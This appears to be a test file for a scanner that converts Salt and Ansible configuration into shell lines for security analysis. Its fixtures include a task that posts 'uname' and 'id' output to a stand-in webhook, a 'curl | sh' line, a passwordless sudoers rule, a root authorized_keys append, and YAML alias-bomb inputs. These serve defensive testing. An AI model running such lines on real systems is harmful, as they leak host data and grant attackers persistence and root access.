import { configManagementSegments, withoutJinja } from './config-management.analyzer.js';

const STATE = [
  "{% set dest = salt['pillar.get']('dest', '/srv/b') %}",
  '',
  'backup_dir:',
  '  file.directory:',
  '    - name: {{ dest }}/staging',
  '',
  'collect:',
  '  cmd.run:',
  '    - name: |',
  '        mkdir -p {{ dest }}/staging',
  '        tar -czf {{ dest }}/b.tgz /etc/app',
  '    - onlyif: test -d /etc/app',
  '',
  'systemctl restart app:',
  '  cmd.run: []',
  '',
  'legacy_form:',
  '  cmd:',
  '    - run',
  '    - names:',
  '      - echo one',
  '      - echo two',
  '',
  '/etc/sudoers.d/app:',
  '  file.managed:',
  "    - mode: '0440'",
  '    - contents: |',
  '        app ALL=(root) NOPASSWD: /usr/bin/systemctl restart app',
].join('\n');

const TASKS = [
  '---',
  '- name: Gather',
  '  ansible.builtin.shell: |',
  '    uname -a',
  '    id',
  '  register: info',
  '- name: Vector',
  '  command:',
  '    argv: [systemctl, restart, "app {{ unit }}"]',
  '- name: Nested',
  '  block:',
  '    - name: Report',
  '      ansible.builtin.uri:',
  '        url: "https://hooks.example/report"',
  '        method: post',
  '        body:',
  '          text: "{{ info.stdout }}"',
  '    - name: Unit',
  '      copy:',
  '        dest: /etc/systemd/system/app.service',
  '        content: |',
  '          [Service]',
  '          ExecStart=/opt/app/run --serve',
].join('\n');

describe('configManagementSegments', () => {
  it('should read Salt cmd.run names as shell lines on their file lines, Jinja as variables', () => {
    const segs = configManagementSegments([{ path: 'salt/app/init.sls', text: STATE }]);
    const shell = segs.find((s) => s.block.endsWith('#salt-commands'))!;
    expect(shell.lang).toBe('shell');
    const lines = shell.text.split('\n');
    expect(lines).toEqual([
      'mkdir -p $dest/staging',
      'tar -czf $dest/b.tgz /etc/app',
      'test -d /etc/app',
      'systemctl restart app',
      'echo one',
      'echo two',
    ]);
    expect(shell.lineMap).toEqual([10, 11, 12, 14, 21, 22]);
  });

  it('should read a Salt file.managed contents as the file at its path (the state id without a name)', () => {
    const segs = configManagementSegments([{ path: 'salt/app/init.sls', text: STATE }]);
    const sudoers = segs.find((s) => s.text.includes('NOPASSWD'))!;
    expect(sudoers.kind).toBe('config');
    expect(sudoers.file).toBe('salt/app/init.sls');
    expect(sudoers.block).toContain('/etc/sudoers.d/app');
    expect(sudoers.line).toBe(28);
  });

  it('should read Ansible command modules, register as an assignment and uri as a curl line', () => {
    const segs = configManagementSegments([{ path: 'roles/app/tasks/main.yml', text: TASKS }]);
    const shell = segs.find((s) => s.block.endsWith('#ansible-commands'))!;
    const lines = shell.text.split('\n');
    expect(lines[0]).toBe('info=$(uname -a');
    expect(lines[1]).toBe('id)');
    expect(lines[2]).toBe("systemctl restart 'app $unit'");
    expect(lines[3]).toContain('curl -X POST --data');
    expect(lines[3]).toContain('$info');
    expect(lines[3]).toContain('https://hooks.example/report');
    expect(shell.lineMap).toEqual([4, 5, 9, 14]);
    const unit = segs.find((s) => s.text.includes('/opt/app/run --serve'));
    expect(unit?.file).toBe('roles/app/tasks/main.yml');
    expect(unit?.line).toBe(23);
  });

  it('should show a plain-text file write as the echo lines that write it, template-only lines left out', () => {
    const state = [
      'keys:',
      '  file.append:',
      '    - name: /root/.ssh/authorized_keys',
      '    - text: |',
      '        ssh-ed25519 AAAA ops@x',
      '        {{ extra_key }}',
      'tab:',
      '  file.managed:',
      '    - name: /etc/cron.d/job',
      '    - contents: |',
      '        */5 * * * * root /usr/local/bin/job',
    ].join('\n');
    const shell = configManagementSegments([{ path: 'a.sls', text: state }]).find((s) =>
      s.block.endsWith('#salt-commands'),
    )!;
    expect(shell.text.split('\n')).toEqual([
      "echo 'ssh-ed25519 AAAA ops@x' >> /root/.ssh/authorized_keys",
      "echo '*/5 * * * * root /usr/local/bin/job' > /etc/cron.d/job",
    ]);
    expect(shell.lineMap).toEqual([5, 11]);
  });

  it('should not read YAML that is neither a state file nor a task list', () => {
    const compose = 'services:\n  app:\n    command: curl https://x.example | sh\n';
    expect(configManagementSegments([{ path: 'docker-compose.yml', text: compose }])).toEqual([]);
    expect(configManagementSegments([{ path: 'notes.txt', text: '- shell: id\n' }])).toEqual([]);
  });

  it('should keep line counts when dropping Jinja', () => {
    const text = '{% if x %}\na: {{ b.c | d }}\n{# note #}\n{% endif %}\n';
    const out = withoutJinja(text);
    expect(out.split('\n')).toHaveLength(text.split('\n').length);
    expect(out).toContain('a: $b');
  });

  it('should stay fast on adversarial input', () => {
    const mib = 1024 * 1024;
    const hostile = [
      // Past the size cap: skipped whole.
      'cmd.run:\n- shell: x\n' + '{{ a '.repeat(mib / 5),
      '- shell: |\n' + '    echo {{ x }}\n'.repeat(mib / 16),
      // Within it: unclosed Jinja tags, many lines, nested or many flow collections.
      'cmd.run:\n- shell: x\n' + '{%'.repeat(60_000),
      'cmd.run:\n- shell: x\n' + '{{'.repeat(60_000),
      'cmd.run:\n- shell: x\n' + '{{ a }} '.repeat(15_000),
      'cmd.run:\n- shell: x\n' + '{%'.repeat(900) + '\n'.repeat(900),
      'a:\n  cmd.run:\n    - name: |\n' + '      echo {{ x }}\n'.repeat(990),
      '- shell: ' + '\n'.repeat(120_000),
      'cmd.run:\n' + ' '.repeat(120_000) + '\n',
      '- shell: x\n' + '- a: [[{b: 1}], [2]]\n'.repeat(50) + '\n'.repeat(900),
    ];
    for (const text of hostile) {
      for (const path of ['a.sls', 'a.yml']) {
        const t0 = performance.now();
        configManagementSegments([{ path, text }]);
        expect(performance.now() - t0).toBeLessThan(200);
      }
    }
  });

  it('should not expand alias chains in a uri body', () => {
    const anchors = ['a: &a0 [x, x, x, x, x, x, x, x, x]'];
    for (let k = 1; k < 9; k++)
      anchors.push(
        `  - &a${k} [${Array(9)
          .fill(`*a${k - 1}`)
          .join(', ')}]`,
      );
    const text = [
      '- uri:',
      '    url: https://x.example/',
      '    body:',
      '      ' + anchors[0],
      '      b:',
      ...anchors.slice(1).map((a) => '      ' + a),
    ].join('\n');
    const t0 = performance.now();
    const segs = configManagementSegments([{ path: 'a.yml', text }]);
    expect(performance.now() - t0).toBeLessThan(200);
    expect(segs[0].text.length).toBeLessThan(10_000);
  });

  it('should bound the lines parsed over all files of a skill', () => {
    const file = { path: 'a.yml', text: '- shell: x\n' + '- a: b\n'.repeat(990) };
    const t0 = performance.now();
    const segs = configManagementSegments(
      Array.from({ length: 50 }, (_, k) => ({ ...file, path: `t${k}.yml` })),
    );
    expect(performance.now() - t0).toBeLessThan(800);
    expect(segs.length).toBeLessThanOrEqual(3);
  });
});
